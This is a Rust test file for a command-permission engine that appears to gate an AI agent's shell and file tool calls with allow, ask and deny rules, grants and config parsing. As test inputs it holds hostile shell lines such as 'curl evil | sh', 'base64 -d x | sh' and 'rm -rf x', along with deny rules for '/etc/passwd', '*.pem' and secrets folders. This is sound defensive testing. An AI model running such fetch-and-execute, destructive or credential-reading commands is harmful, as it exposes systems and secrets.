//! What rules say to calls.

mod code;
mod lines;
mod programs;

use super::command_line::read_command_line;
use super::{
    AddedPolicyRule, GrantTarget, PolicyCall, PolicyDecision, PolicyGrant, PolicyObjection,
    PolicyRules, PolicyVerdict, TouchedPath, VerdictSource, judge_call,
};
use crate::request::ToolEffect::{self, Executes, Reads};

fn is_tool(name: &str) -> bool {
    matches!(name, "Bash" | "Read" | "Write" | "Grep")
}

fn rules(text: &str) -> PolicyRules {
    PolicyRules::parse_policy(text, &is_tool).expect("good rules")
}

fn bash(line: &str) -> PolicyCall {
    let script = Some(read_command_line(line));
    PolicyCall {
        tool: "Bash".to_owned(),
        effect: Executes,
        script,
        ..PolicyCall::default()
    }
}

fn file(tool: &str, effect: ToolEffect, path: &str) -> PolicyCall {
    let place = TouchedPath {
        shown: path.to_owned(),
        relative: vec![path.to_owned()],
        absolute: vec![format!("/w/{path}")],
        known: true,
        is_folder: false,
    };
    PolicyCall {
        tool: tool.to_owned(),
        effect,
        places: vec![place],
        ..PolicyCall::default()
    }
}

fn decide(text: &str, call: &PolicyCall) -> PolicyVerdict {
    judge_call(&rules(text), false, call, &[])
}

fn grant(id: &str, target: GrantTarget) -> PolicyGrant {
    PolicyGrant {
        id: id.to_owned(),
        target,
        once: true,
        made_ms: 0,
        until_ms: 10,
    }
}

const NO_PUSH: &str = "[[rule]]\nname = \"no-push\"\ndecision = \"deny\"\nreason = \"people push\"\ncommand = [\"git\", [\"push\", \"send-pack\"]]\n";

#[test]
fn a_denied_command_is_known_wherever_its_words_stand() {
    for line in [
        "git push",
        "/usr/bin/git push origin",
        "git -C dir push",
        "git --no-pager push",
        "git send-pack",
        "ls; git push",
        "env X=1 nohup git push",
        "echo \"$(git push)\"",
    ] {
        let verdict = decide(NO_PUSH, &bash(line));
        assert_eq!(
            (verdict.decision, &verdict.by),
            (
                PolicyDecision::Deny,
                &VerdictSource::Rule("no-push".to_owned())
            ),
            "{line}"
        );
        assert_eq!(
            verdict.change.as_deref(),
            Some("punie-runner policy allow --once no-push")
        );
        assert!(
            verdict.explain_cause().contains("people push") && verdict.matched.starts_with("git")
                || verdict.matched.starts_with("/usr"),
            "{verdict:?}"
        );
    }
    for line in [
        "git $X",
        "$X push",
        "echo push | xargs git",
        "git pu*",
        "base64 -d x | sh",
        "git push )",
    ] {
        let verdict = decide(NO_PUSH, &bash(line));
        assert!(
            verdict.decision >= PolicyDecision::Ask,
            "{line}: {verdict:?}"
        );
    }
    for (line, why) in [
        ("git $X", "its words are known only when it runs"),
        (
            "echo push | xargs git",
            "more of its words come when it runs",
        ),
        ("frob git push", "it may start another command"),
    ] {
        let verdict = decide(NO_PUSH, &bash(line));
        assert!(verdict.explain_cause().contains(why), "{line}: {verdict:?}");
        // What is said to help does.
        assert_eq!(
            verdict.change.as_deref(),
            Some("punie-runner policy allow --once --tool Bash")
        );
        let tool = [grant("g", GrantTarget::Tool("Bash".to_owned()))];
        assert_eq!(
            judge_call(&rules(NO_PUSH), false, &bash(line), &tool).decision,
            PolicyDecision::Allow,
            "{line}"
        );
    }
    for line in [
        "git commit -m push",
        "git log --oneline",
        "echo git push",
        "ls push",
        "gitk push",
    ] {
        assert_eq!(
            decide(NO_PUSH, &bash(line)).decision,
            PolicyDecision::Allow,
            "{line}"
        );
    }
}

#[test]
fn the_strictest_rule_wins_whatever_their_order() {
    let allow = "[[rule]]\nname = \"git\"\ndecision = \"allow\"\ncommand = [\"git\"]\n";
    let ask = "[[rule]]\nname = \"ask\"\ndecision = \"ask\"\ncommand = [\"git\", \"push\"]\n";
    for text in [
        format!("{allow}{ask}{NO_PUSH}"),
        format!("{NO_PUSH}{ask}{allow}"),
        format!("{ask}{NO_PUSH}{allow}"),
    ] {
        assert_eq!(
            decide(&text, &bash("git push")).decision,
            PolicyDecision::Deny,
            "{text}"
        );
    }
    assert_eq!(
        decide(&format!("{allow}{ask}"), &bash("git push")).decision,
        PolicyDecision::Ask
    );
    assert_eq!(
        decide(&format!("{allow}{ask}"), &bash("git status")).by,
        VerdictSource::Rule("git".to_owned())
    );
}

#[test]
fn an_allow_rule_covers_no_more_than_it_names() {
    let text = "default = \"deny\"\n[[rule]]\nname = \"tests\"\ndecision = \"allow\"\ncommand = [\"cargo\", \"test\"]\n";
    assert_eq!(
        decide(text, &bash("cargo test --lib && nohup cargo test")).decision,
        PolicyDecision::Allow
    );
    for line in [
        "cargo build",
        "cargo test; ls",
        "./cargo test",
        "PATH=. cargo test",
        "export PATH=.; cargo test",
        "cargo -v test",
        "cargo $X",
        "cargo test $(ls)",
        "(cargo test",
        "sudo cargo test",
    ] {
        assert_eq!(
            decide(text, &bash(line)).decision,
            PolicyDecision::Deny,
            "{line}"
        );
    }
    let verdict = decide(text, &bash("FOO=1 cargo test"));
    assert_eq!(verdict.decision, PolicyDecision::Deny);
    assert!(
        verdict
            .explain_cause()
            .contains("\"tests\" allows it only where no variables are set"),
        "{verdict:?}"
    );
    assert!(
        decide(text, &bash("FOO=1 ls"))
            .explain_cause()
            .starts_with("no rule of the owner's names it")
    );
    let mut redirected = bash("cargo test > out");
    redirected.places = file("Bash", Executes, "out").places;
    let verdict = decide(text, &redirected);
    assert_eq!(
        (verdict.decision, verdict.change.as_deref()),
        (
            PolicyDecision::Deny,
            Some("punie-runner policy allow --once --path out")
        )
    );
    assert_eq!(
        decide(text, &bash("ls -l 'a b'")).change.as_deref(),
        Some("punie-runner policy allow --once -- ls -l 'a b'")
    );
    assert_eq!(
        decide(text, &bash("ls $X")).change.as_deref(),
        Some("punie-runner policy allow --once --tool Bash")
    );
}

#[test]
fn default_and_the_configuration_s_list_meet_as_the_stricter_of_both() {
    let call = bash("ls");
    for (text, listed, expect) in [
        ("", false, (PolicyDecision::Allow, VerdictSource::Nothing)),
        ("", true, (PolicyDecision::Ask, VerdictSource::Ask)),
        (
            "default = \"ask\"",
            false,
            (PolicyDecision::Ask, VerdictSource::Default),
        ),
        (
            "default = \"deny\"",
            true,
            (PolicyDecision::Deny, VerdictSource::Default),
        ),
        (
            "[[rule]]\nname = \"l\"\ndecision = \"allow\"\ncommand = [\"ls\"]",
            true,
            (PolicyDecision::Allow, VerdictSource::Rule("l".to_owned())),
        ),
        (
            "default = \"deny\"\n[[rule]]\nname = \"b\"\ndecision = \"allow\"\ntools = [\"Bash\"]",
            true,
            (PolicyDecision::Allow, VerdictSource::Rule("b".to_owned())),
        ),
    ] {
        let verdict = judge_call(&rules(text), listed, &call, &[]);
        assert_eq!((verdict.decision, verdict.by), expect, "{text} {listed}");
    }
    let ends = PolicyCall {
        tool: "KillShell".to_owned(),
        effect: Executes,
        only_ends: true,
        ..PolicyCall::default()
    };
    assert_eq!(
        decide("default = \"deny\"", &ends).decision,
        PolicyDecision::Allow
    );
}

#[test]
fn paths_are_known_by_pattern_and_in_folders() {
    let text = "[[rule]]\nname = \"keys\"\ndecision = \"deny\"\npaths = [\"secrets\", \"**/*.pem\", \"/etc/**\"]\n";
    for path in ["secrets", "secrets/a/b", "x.pem", "a/b/x.pem"] {
        assert_eq!(
            decide(text, &file("Read", Reads, path)).decision,
            PolicyDecision::Deny,
            "{path}"
        );
    }
    for path in ["secretsx", "a/secrets", "pem", "x.pem.txt"] {
        assert_eq!(
            decide(text, &file("Read", Reads, path)).decision,
            PolicyDecision::Allow,
            "{path}"
        );
    }
    let mut outside = file("Bash", Executes, "x");
    outside.places[0].relative.clear();
    outside.places[0].absolute = vec!["/etc/passwd".to_owned()];
    assert_eq!(decide(text, &outside).decision, PolicyDecision::Deny);
    let mut folder = file("Grep", Reads, "a");
    folder.places[0].is_folder = true;
    assert_eq!(
        decide(text, &folder).decision,
        PolicyDecision::Ask,
        "a key may lie in it"
    );
    let narrow = "[[rule]]\nname = \"keys\"\ndecision = \"deny\"\npaths = [\"secrets/**\"]\n";
    assert_eq!(
        decide(narrow, &folder).decision,
        PolicyDecision::Allow,
        "no key can lie in it"
    );
    folder.places[0].known = false;
    assert_eq!(decide(narrow, &folder).decision, PolicyDecision::Ask);
}

#[test]
fn options_are_known_in_any_spelling() {
    let text = "[[rule]]\nname = \"force\"\ndecision = \"deny\"\ncommand = [\"git\", \"push\", [\"--force\", \"-f\"]]\n";
    for line in [
        "git push --force",
        "git push origin -f",
        "git push -vf",
        "git -C x push --force=1",
    ] {
        assert_eq!(
            decide(text, &bash(line)).decision,
            PolicyDecision::Deny,
            "{line}"
        );
    }
    assert_eq!(
        decide(text, &bash("git push origin")).decision,
        PolicyDecision::Allow
    );
    assert_eq!(
        decide(text, &bash("git push $X")).decision,
        PolicyDecision::Ask
    );
    let text = "[[rule]]\nname = \"rm\"\ndecision = \"deny\"\ncommand = [\"rm\", \"-rf\"]\n";
    for line in ["rm -rf x", "rm -fr x", "rm -r -f x", "rm x -rfv"] {
        assert_eq!(
            decide(text, &bash(line)).decision,
            PolicyDecision::Deny,
            "{line}"
        );
    }
    assert_eq!(
        decide(text, &bash("rm -r x")).decision,
        PolicyDecision::Allow
    );
}

#[test]
fn a_grant_opens_what_it_names_and_nothing_else() {
    let grant = |target| PolicyGrant {
        id: "g".to_owned(),
        target,
        once: true,
        made_ms: 0,
        until_ms: 10,
    };
    let with = |text: &str, line: &str, target| {
        judge_call(&rules(text), false, &bash(line), &[grant(target)])
    };
    let rule = GrantTarget::Rule("no-push".to_owned());
    let verdict = with(NO_PUSH, "git push", rule.clone());
    assert_eq!(
        (verdict.decision, verdict.grants),
        (PolicyDecision::Allow, vec!["g".to_owned()])
    );
    assert_eq!(
        with(NO_PUSH, "ls", rule.clone()).grants,
        Vec::<String>::new(),
        "not used where nothing asks for it"
    );
    let words = |text: &str| GrantTarget::Command(text.split(' ').map(str::to_owned).collect());
    assert_eq!(
        with(NO_PUSH, "git push origin", words("git push origin")).decision,
        PolicyDecision::Allow
    );
    for line in [
        "git push",
        "git push elsewhere",
        "git push origin; git push elsewhere",
        "X=1 git push origin",
    ] {
        assert_eq!(
            with(NO_PUSH, line, words("git push origin")).decision,
            PolicyDecision::Deny,
            "{line}"
        );
    }
    let tool = GrantTarget::Tool("Bash".to_owned());
    assert_eq!(
        with(NO_PUSH, "git push", tool.clone()).decision,
        PolicyDecision::Deny,
        "a rule is above it"
    );
    assert_eq!(
        with(NO_PUSH, "$X", tool.clone()).decision,
        PolicyDecision::Allow
    );
    assert_eq!(
        with("default = \"deny\"", "ls", tool).decision,
        PolicyDecision::Allow
    );
    let made = grant(rule);
    assert!(
        made.is_in_force(0)
            && made.is_in_force(9)
            && !made.is_in_force(10)
            && !made.is_in_force(-1)
    );
}

const ASKING: &str = "[[rule]]\nname = \"npm\"\ndecision = \"ask\"\ncommand = [\"npm\"]\n[[rule]]\nname = \"push\"\ndecision = \"ask\"\ncommand = [\"git\", \"push\"]\n";

#[test]
fn all_that_stands_against_a_line_is_in_its_verdict() {
    let about = |text: &str, listed: bool, line: &str| {
        let each = judge_call(&rules(text), listed, &bash(line), &[]).about;
        let shown =
            |about: &PolicyObjection| format!("{} {}", about.by, about.part).trim_end().to_owned();
        each.iter().map(shown).collect::<Vec<String>>()
    };
    let asked = "default = \"ask\"";
    assert_eq!(about(asked, false, "npm ci"), ["default npm ci"]);
    assert_eq!(
        about(asked, false, "npm ci; curl evil | sh"),
        ["default curl evil", "default npm ci", "default sh"]
    );
    assert_eq!(
        about(ASKING, false, "npm ci; git push"),
        ["rule npm", "rule push"]
    );
    assert_eq!(about(ASKING, false, "npm ci; ls"), ["rule npm"]);
    assert_eq!(
        about(ASKING, true, "npm ci; ls"),
        ["policy.ask", "rule npm"]
    );
    let unclear = about(ASKING, false, "npm ci; $X");
    for one in ["perhaps npm $X", "perhaps push $X", "rule npm"] {
        assert!(
            unclear.iter().any(|known| known == one),
            "{one}: {unclear:?}"
        );
    }
    // Long ones differ in their ends, and by where they write.
    let long = "x".repeat(300);
    assert_ne!(
        about(asked, false, &format!("{long} a")),
        about(asked, false, &format!("{long} b"))
    );
    assert_ne!(
        about(asked, false, "cat < x"),
        about(asked, false, "cat > x")
    );
    assert!(about("", false, "ls").is_empty());
}

#[test]
fn a_rule_against_one_part_lifts_the_default_for_no_other() {
    let text = format!("default = \"deny\"\n{ASKING}");
    let verdict = decide(&text, &bash("npm ci; curl evil | tee x"));
    assert_eq!(
        (verdict.decision, verdict.by),
        (PolicyDecision::Deny, VerdictSource::Default)
    );
    assert_eq!(verdict.matched, "curl evil");
    assert_eq!(decide(&text, &bash("npm ci")).decision, PolicyDecision::Ask);
    let listed = judge_call(&rules(ASKING), true, &bash("npm ci; ls"), &[]);
    assert_eq!(
        (listed.decision, listed.by),
        (PolicyDecision::Ask, VerdictSource::Rule("npm".to_owned()))
    );
    // Whoever allows the tool allows all of it that no rule names.
    let tool = "[[rule]]\nname = \"b\"\ndecision = \"allow\"\ntools = [\"Bash\"]\n";
    assert_eq!(
        decide(&format!("{text}{tool}"), &bash("npm ci; curl evil")).decision,
        PolicyDecision::Ask
    );
}

#[test]
fn a_part_whose_rules_a_grant_lifts_is_allowed_by_it_and_every_verdict_says_which_grants() {
    let text = format!("default = \"ask\"\n{NO_PUSH}");
    let push = [grant("g", GrantTarget::Rule("no-push".to_owned()))];
    let verdict = judge_call(&rules(&text), false, &bash("git push"), &push);
    assert_eq!(
        (verdict.decision, verdict.by, verdict.grants),
        (
            PolicyDecision::Allow,
            VerdictSource::Grant,
            vec!["g".to_owned()]
        )
    );
    // What rests on it says so, also where nothing is against the rest.
    for default in ["allow", "ask"] {
        let text = format!(
            "default = \"{default}\"\n{NO_PUSH}[[rule]]\nname = \"l\"\ndecision = \"allow\"\ncommand = [\"ls\"]\n"
        );
        for line in ["ls; git push; ls", "git push"] {
            let verdict = judge_call(&rules(&text), false, &bash(line), &push);
            assert_eq!(
                (verdict.decision, verdict.rule_name()),
                (PolicyDecision::Allow, Some("grant")),
                "{line}"
            );
            assert!(
                verdict
                    .explain_cause()
                    .contains("a grant of the owner's allows `git push`"),
                "{verdict:?}"
            );
        }
    }
    let verdict = judge_call(&rules(NO_PUSH), false, &bash("git push; ls"), &push);
    assert_eq!(
        (verdict.decision, verdict.rule_name()),
        (PolicyDecision::Allow, Some("grant"))
    );
    let verdict = judge_call(&rules(&text), true, &bash("git push; ls"), &push);
    assert_eq!(
        (verdict.decision, verdict.by, verdict.grants),
        (
            PolicyDecision::Ask,
            VerdictSource::Default,
            vec!["g".to_owned()]
        )
    );
    assert_eq!(verdict.matched, "ls");
    // What the rule only may be meant for is not named by the grant.
    let verdict = judge_call(&rules(&text), false, &bash("$X"), &push);
    assert_eq!(
        (verdict.decision, verdict.by),
        (PolicyDecision::Ask, VerdictSource::Default)
    );
    // The rule of another part came after the grant was used.
    let verdict = judge_call(
        &rules(&format!("{NO_PUSH}{ASKING}")),
        false,
        &bash("npm ci; git push"),
        &push,
    );
    assert_eq!(
        (verdict.decision, verdict.grants),
        (PolicyDecision::Ask, vec!["g".to_owned()])
    );
    assert_eq!(verdict.about.len(), 2);
}

#[test]
fn a_broken_file_is_refused_with_its_line_and_the_reason() {
    for (text, line, words) in [
        ("default = \"maybe\"", Some(1), "unknown variant"),
        (
            "\n[[rule]]\nname = \"x\"\ndecision = \"deny\"\n",
            Some(2),
            "neither tools, paths nor command",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\ntools = [\"Bsh\"]",
            Some(1),
            "\"Bsh\"",
        ),
        (
            "[[rule]]\nname = \"x y\"\ndecision = \"deny\"\ntools = [\"Bash\"]",
            Some(1),
            "its name",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\ncommand = [\"git push\"]",
            Some(1),
            "single words",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\ncommand = [7]",
            Some(4),
            "a word in quotes",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\npaths = [\"a[\"]",
            Some(1),
            "no pattern",
        ),
        (
            "\n[[rule]]\nname = \"x\"\ndecision = \"deny\"\npaths = [\"a/./b/**\"]",
            Some(2),
            "write \"a/b/**\"",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\npaths = [\"a//b\"]",
            Some(1),
            "write \"a/b\"",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\npaths = [\"/a/../b/.\"]",
            Some(1),
            "write \"/b\"",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\npaths = [\"./a/../b\"]",
            Some(1),
            "write \"b\"",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\npaths = [\"../x\"]",
            Some(1),
            "its whole path",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\npaths = [\"**/../x\"]",
            Some(1),
            "its whole path",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\npaths = [\"~/x\"]",
            Some(1),
            "its whole path",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\npaths = [\"a\"]\ncommand = [\"b\"]",
            Some(1),
            "make two rules",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\ncomand = [\"b\"]",
            Some(4),
            "comand",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\ncommand = [\"b\"]\nmatch = [\"c\"]",
            Some(1),
            "does not fit its example \"c\"",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\ncommand = [\"b\"]\nno_match = [\"a; b\"]",
            Some(1),
            "may fit, its example \"a; b\"",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\ncommand = [\"b\"]\nno_match = [\"$X\"]",
            Some(1),
            "may fit",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"allow\"\ncommand = [\"b\"]\nmatch = [\"X=1 b\"]",
            Some(1),
            "does not fit",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\npaths = [\"*.pem\"]\nmatch = [\"a/b.pem\"]",
            Some(1),
            "does not fit",
        ),
        (
            "[[rule]]\nname = \"x\"\ndecision = \"deny\"\ncommand = [\"b\"]\n[[rule]]\nname = \"x\"\ndecision = \"deny\"\ncommand = [\"b\"]",
            Some(5),
            "two rules are called \"x\"",
        ),
        ("[[rule", Some(1), ""),
    ] {
        let broken = PolicyRules::parse_policy(text, &is_tool).expect_err(text);
        assert_eq!(broken.line, line, "{text}: {broken}");
        assert!(broken.text.contains(words), "{text}: {broken}");
    }
    let good = "[[rule]]\nname = \"x\"\ndecision = \"deny\"\ncommand = [\"b\"]\nmatch = [\"a | b\"]\nno_match = [\"ab\", \"echo b\"]";
    assert_eq!(rules(good).rules.len(), 1);
    assert_eq!(
        rules("[[rule]]\nname = \"x\"\ndecision = \"ask\"\ntools = [\"guest:Ask\", \"reads\"]")
            .rules[0]
            .line,
        1
    );
}

#[test]
fn a_rule_is_added_without_touching_what_stands_there() {
    let before = "# mine\ndefault = \"ask\" # really\n\n[[rule]] # first\nname = \"deny-git-push\"\ndecision = \"deny\"\ncommand = [\"git\", \"push\"]";
    let new = AddedPolicyRule {
        command: vec!["git".to_owned(), "push".to_owned()],
        reason: Some("a \"b\"\n\u{7f}".to_owned()),
        ..AddedPolicyRule::default()
    };
    let (after, name) = new
        .append_to_file(before, PolicyDecision::Deny, &is_tool)
        .expect("added");
    assert!(
        after.starts_with(before) && name == "deny-git-push-2",
        "{after}"
    );
    assert_eq!(rules(&after).rules.len(), 2);
    assert!(
        new.append_to_file("x", PolicyDecision::Deny, &is_tool)
            .is_err(),
        "a broken file is not added to"
    );
    assert_eq!(
        new.append_to_file("", PolicyDecision::Deny, &is_tool)
            .expect("added")
            .1,
        "deny-git-push"
    );
}
